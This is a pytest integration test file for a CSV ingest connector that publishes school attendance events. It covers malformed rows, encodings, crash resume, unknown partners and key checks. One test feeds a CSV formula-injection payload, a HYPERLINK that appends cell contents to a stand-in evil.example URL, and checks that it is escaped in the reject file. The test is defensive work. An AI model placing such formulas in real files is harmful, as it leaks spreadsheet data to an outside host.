"""CSV drop against the real broker: a malformed-row corpus, encodings, resume after a kill."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from datetime import date, timedelta
from pathlib import Path

import pytest

from connectors.csv_drop import Checkpoint, CsvDrop, CsvFileError
from connectors.mapping import EventMapping
from connectors.pseudonymise import key_id
from connectors.publisher import UnknownPartner
from hub.config import PROJECT_ROOT, TEST_PLACE_KEY, Settings
from tests.integration.connector_helpers import (
    BAD_NHS,
    GOOD_NHS,
    onboard,
    published_events,
    raw_topic_bytes,
    write_mapping,
)

PARTNER = "northfield-school"
RECENT = date.today() - timedelta(days=30)  # relative to today, like every date in tests
DAY = RECENT.strftime("%d/%m/%Y")  # the export's format
HEADER = "PupilId,Date,NHS,Consent,Type,Ward,Notes\n"
GOOD = f"P{{n}},{DAY},{GOOD_NHS},c-1,Att,E05000001,ok\n"

# (record text, the reason it must be rejected with): one malformed row each.
CORPUS: list[tuple[str, str]] = [
    (
        f"B1,{DAY},{BAD_NHS},c-1,Att,,x\n",
        "column 'NHS' (identifiers.nhs): the NHS number's check digit is wrong",
    ),
    (f"B2,{DAY},94347659,c-1,Att,,x\n", "column 'NHS' (identifiers.nhs): an NHS number must"),
    (f"B3,{DAY},,c-1,Att,,x\n", "column 'NHS' (identifiers.nhs): is empty"),
    (
        f"B4,31/02/{RECENT.year},{GOOD_NHS},c-1,Att,,x\n",
        "column 'Date' (occurred_at): is not a date or time in the format %d/%m/%Y",
    ),
    (f"B5,{DAY},{GOOD_NHS},,Att,,x\n", "column 'Consent' (basis.consent_id): is empty"),
    (
        f"B6,{DAY},{GOOD_NHS},c-1,Absent,,x\n",
        "column 'Type' (payload.kind): is not one of the mapped codes ['Att', 'Susp']",
    ),
    (
        f"B7,{DAY},{GOOD_NHS},c-1,Att,Leeds,x\n",
        "column 'Ward' (area_code): String should match pattern",
    ),
    (f"B8,{DAY},{GOOD_NHS},c-1,Att\n", "5 fields, the header has 7"),
    (f"B9,{DAY},{GOOD_NHS},c-1,Att,,x,extra\n", "8 fields, the header has 7"),
    (f'"B10"x,{DAY},{GOOD_NHS},c-1,Att,,x\n', "not valid CSV: ',' expected after '\"'"),
    (
        f"B11,{DAY},{GOOD_NHS},c-1,Att,,caf\xe9\n",
        "bytes that are not valid utf-8; set csv.encoding in the mapping (e.g. latin-1)",
    ),
    (f"B 12,{DAY},{GOOD_NHS},c-1,Att,,x\n", "column 'PupilId' (source_ref): String should"),
    (
        f"{'B' * 65},{DAY},{GOOD_NHS},c-1,Att,,x\n",
        "column 'PupilId' (source_ref): String should have at most 64 characters",
    ),
    (
        f"B14,{DAY},{GOOD_NHS},Consent 1,Att,,x\n",
        "column 'Consent' (basis.consent_id): String should match pattern",
    ),
    (
        f"B15,{RECENT.isoformat()},{GOOD_NHS},c-1,Att,,x\n",
        "column 'Date' (occurred_at): is not a date",
    ),
]
UNTERMINATED = (f'B16,{DAY},{GOOD_NHS},c-1,Att,,"never closed\n', "unexpected end of data")


@pytest.fixture(autouse=True)
def _onboarded(hub_settings: Settings) -> None:
    onboard(hub_settings, PARTNER)  # no worker runs here to create the topic


def _write(path: Path, records: list[str]) -> None:
    path.write_bytes("".join(records).encode("latin-1"))  # latin-1 keeps \xe9 a single byte


def _rejects(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, errors="surrogateescape", newline="") as source:
        return list(csv.reader(source))[1:]


def test_malformed_rows_get_precise_reasons_and_are_counted(
    hub_settings: Settings, tmp_path: Path
) -> None:
    records = [HEADER, GOOD.format(n=0)]
    expected: dict[int, str] = {}
    line = 3
    for n, (record, reason) in enumerate([*CORPUS, UNTERMINATED], start=1):
        records.append(GOOD.format(n=n).replace(",ok", ',"a note, over\ntwo lines"'))
        line += 2
        records.append(record)
        expected[line] = reason
        line += 1
    data = tmp_path / "export.csv"
    _write(data, records)

    drop = CsvDrop(data, PARTNER, EventMapping.load(write_mapping(tmp_path)), hub_settings)
    summary = drop.run()

    good_rows = 1 + len(CORPUS) + 1
    assert (summary.read, summary.published, summary.rejected) == (
        good_rows + len(expected),
        good_rows,
        len(expected),
    )
    assert summary.read == summary.published + summary.rejected
    rejects = {int(row[0]): row[1] for row in _rejects(drop.reject_path)}
    assert sorted(rejects) == sorted(expected)
    for at, reason in expected.items():
        assert reason in rejects[at], f"line {at}: {rejects[at]!r} lacks {reason!r}"
        assert GOOD_NHS not in rejects[at] and BAD_NHS not in rejects[at]
    events = published_events(hub_settings, PARTNER)
    assert sorted(e.source_ref for e in events) == sorted(f"P{n}" for n in range(good_rows))
    assert {e.event_type for e in events} == {"education.attendance"}
    topic = raw_topic_bytes(hub_settings, PARTNER)
    assert GOOD_NHS.replace(" ", "").encode() not in topic and b"a note" not in topic


def test_rejected_rows_can_be_fixed_and_dropped_again(
    hub_settings: Settings, tmp_path: Path
) -> None:
    data = tmp_path / "export.csv"
    _write(data, [HEADER, GOOD.format(n=1), CORPUS[4][0]])
    mapping = EventMapping.load(write_mapping(tmp_path))
    first = CsvDrop(data, PARTNER, mapping, hub_settings)
    assert first.run().rejected == 1

    fixed = first.reject_path.read_text().replace(f"{GOOD_NHS},,Att", f"{GOOD_NHS},c-9,Att")
    again = tmp_path / "fixed.csv"
    again.write_text(fixed)
    summary = CsvDrop(again, PARTNER, mapping, hub_settings).run()

    assert (summary.read, summary.published, summary.rejected) == (1, 1, 0)


def test_latin1_semicolons_bom_and_crlf(hub_settings: Settings, tmp_path: Path) -> None:
    rows = [HEADER, GOOD.format(n=1), GOOD.format(n=2).replace(",ok", ",Zoë's café")]
    latin = tmp_path / "latin.csv"
    latin.write_bytes("".join(rows).replace(",", ";").replace("\n", "\r\n").encode("latin-1"))
    bom = tmp_path / "bom.csv"
    bom.write_bytes(b"\xef\xbb\xbf" + "".join(rows).encode("utf-8"))

    latin_summary = CsvDrop(
        latin, PARTNER, EventMapping.load(write_mapping(tmp_path, "latin-1", ";")), hub_settings
    ).run()
    bom_summary = CsvDrop(
        bom, PARTNER, EventMapping.load(write_mapping(tmp_path)), hub_settings
    ).run()

    assert (latin_summary.published, latin_summary.rejected) == (2, 0)
    assert (bom_summary.published, bom_summary.rejected) == (2, 0)


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"", "the file is empty (no header line)"),
        (f"PupilId,Date,NHS\nP1,{DAY},x\n".encode(), "the header lacks columns ['Consent', 'Type'"),
        (b"PupilId;Date;NHS;Consent;Type;Ward\n", "(is the delimiter ',' right?)"),
        (HEADER.replace("Notes", "NHS").encode(), "the header repeats columns ['NHS']"),
    ],
)
def test_file_level_problems_stop_before_publishing(
    hub_settings: Settings, tmp_path: Path, content: bytes, problem: str
) -> None:
    data = tmp_path / "export.csv"
    data.write_bytes(content)
    drop = CsvDrop(data, PARTNER, EventMapping.load(write_mapping(tmp_path)), hub_settings)
    with pytest.raises(CsvFileError) as caught:
        drop.run()
    assert problem in str(caught.value)


def _big_file(path: Path, rows: int) -> None:
    with path.open("w") as out:
        out.write(HEADER)
        for n in range(rows):
            out.write(f"P{n},{DAY},{GOOD_NHS},c-{n % 97},Att,E05000001,row {n}\n")


def _cli(
    data: Path,
    mapping: Path,
    settings: Settings,
    partner: str = PARTNER,
    env: dict[str, str] | None = None,
) -> subprocess.Popen[str]:
    """``placehub ingest csv`` as a partner runs it; ``env`` replaces ``PLACEHUB_*`` extras
    (the key settings), the broker and topic prefix always being the test's."""
    env = {
        **({k: v for k, v in os.environ.items() if not k.startswith("PLACEHUB_")}),
        **(env if env is not None else {"PLACEHUB_ALLOW_TEST_KEY": "1"}),
        "PLACEHUB_BOOTSTRAP_SERVERS": settings.bootstrap_servers,
        "PLACEHUB_TOPIC_PREFIX": settings.topic_prefix,
    }
    command = [sys.executable, "-m", "hub.cli", "ingest", "csv", str(data)]
    command += ["--partner", partner, "--mapping", str(mapping), "--json"]
    return subprocess.Popen(
        command,
        env=env,
        cwd=PROJECT_ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def test_100k_rows_killed_half_way_then_rerun_yields_every_row_once(
    hub_settings: Settings, tmp_path: Path
) -> None:
    rows = 100_000
    mapping = write_mapping(tmp_path)
    small, big = tmp_path / "small.csv", tmp_path / "big.csv"
    _big_file(small, 2_000)
    _big_file(big, rows)
    apart = hub_settings.model_copy(update={"topic_prefix": hub_settings.topic_prefix + "small."})
    onboard(apart, PARTNER)
    small_out, _ = _cli(small, mapping, apart).communicate(timeout=120)
    small_rss = json.loads(small_out)["peak_rss_mb"]

    first = _cli(big, mapping, hub_settings)
    checkpoint_path = tmp_path / "big.rejects.checkpoint.json"
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        saved = Checkpoint.load(checkpoint_path)
        if saved is not None and saved.read >= rows // 2:
            break
        time.sleep(0.05)
    first.send_signal(signal.SIGKILL)
    first.wait()
    killed_at = Checkpoint.load(checkpoint_path)
    assert killed_at is not None and rows // 2 <= killed_at.read < rows, "not killed half way"

    out, err = _cli(big, mapping, hub_settings).communicate(timeout=300)

    summary = json.loads(out)
    assert (summary["read"], summary["published"], summary["rejected"]) == (rows, rows, 0)
    assert summary["resumed_at_line"] == killed_at.line + 1
    assert "100%" in err and "B/s" in err, "no progress bar with rate on stderr"
    assert summary["peak_rss_mb"] < small_rss + 30, "memory grows with the file"
    events = published_events(hub_settings, PARTNER)
    assert len({e.event_id for e in events}) == rows
    assert {e.source_ref for e in events} == {f"P{n}" for n in range(rows)}
    assert len(events) - rows < 2 * 500, "more re-sent than one unacknowledged batch"


def test_a_partner_the_hub_does_not_know_is_refused_before_anything_is_published(
    hub_settings: Settings, tmp_path: Path
) -> None:
    data = tmp_path / "export.csv"
    _write(data, [HEADER, GOOD.format(n=1)])
    mapping = write_mapping(tmp_path)
    with pytest.raises(UnknownPartner, match="'unknown-partner' is not onboarded: its topic"):
        CsvDrop(data, "unknown-partner", EventMapping.load(mapping), hub_settings)

    out, err = _cli(data, mapping, hub_settings, partner="unknown-partner").communicate(timeout=120)

    assert "published" not in out and "'unknown-partner' is not onboarded" in err
    assert raw_topic_bytes(hub_settings, "unknown-partner") == b""
    assert not (tmp_path / "export.rejects.checkpoint.json").exists()


def test_reject_file_cells_cannot_run_as_spreadsheet_formulas(
    hub_settings: Settings, tmp_path: Path
) -> None:
    hostile = '"=HYPERLINK(""http://evil.example/?""&A1,""open"")"'
    rows = [
        f"B1,{DAY},{BAD_NHS},c-1,Att,,{hostile}\n",
        f"@SUM(A1),{DAY},{BAD_NHS},c-1,Att,,+1\n",
        f"B3,{DAY},{BAD_NHS},c-1,Att,,-2\n",
    ]
    data = tmp_path / "export.csv"
    _write(data, [HEADER, *rows])
    drop = CsvDrop(data, PARTNER, EventMapping.load(write_mapping(tmp_path)), hub_settings)

    assert drop.run().rejected == 3

    rejects = _rejects(drop.reject_path)
    assert [row[-1] for row in rejects] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        "'+1",
        "'-2",
    ]
    assert rejects[1][2] == "'@SUM(A1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rejects for cell in row)


def test_the_place_key_outside_tests_must_be_set_long_and_not_the_test_key(
    hub_settings: Settings, tmp_path: Path
) -> None:
    data = tmp_path / "export.csv"
    _write(data, [HEADER, GOOD.format(n=1)])
    mapping = write_mapping(tmp_path)
    refused = {
        "no key": ({}, "PLACEHUB_PLACE_KEY_FILE: no place key is set"),
        "short key": ({"PLACEHUB_PLACE_KEY": "k" * 31}, "PLACEHUB_PLACE_KEY: the place key has 31"),
        "test key": (
            {"PLACEHUB_PLACE_KEY": TEST_PLACE_KEY},
            "PLACEHUB_PLACE_KEY: this is the public",
        ),
    }
    for name, (env, problem) in refused.items():
        cli = _cli(data, mapping, hub_settings, env=env)
        out, err = cli.communicate(timeout=120)
        assert cli.returncode == 2 and problem in err and out == "", name
    assert raw_topic_bytes(hub_settings, PARTNER) == b""

    place_key = "a-place-key-of-thirty-two-bytes!"
    key_file = tmp_path / "place.key"
    key_file.write_text(place_key + "\n")
    cli = _cli(data, mapping, hub_settings, env={"PLACEHUB_PLACE_KEY_FILE": str(key_file)})
    out, err = cli.communicate(timeout=120)

    assert cli.returncode == 0, err
    [event] = published_events(hub_settings, PARTNER)
    [nhs] = event.subject.tokens
    assert nhs.split(":")[1] == key_id(place_key.encode()) != key_id(TEST_PLACE_KEY.encode())
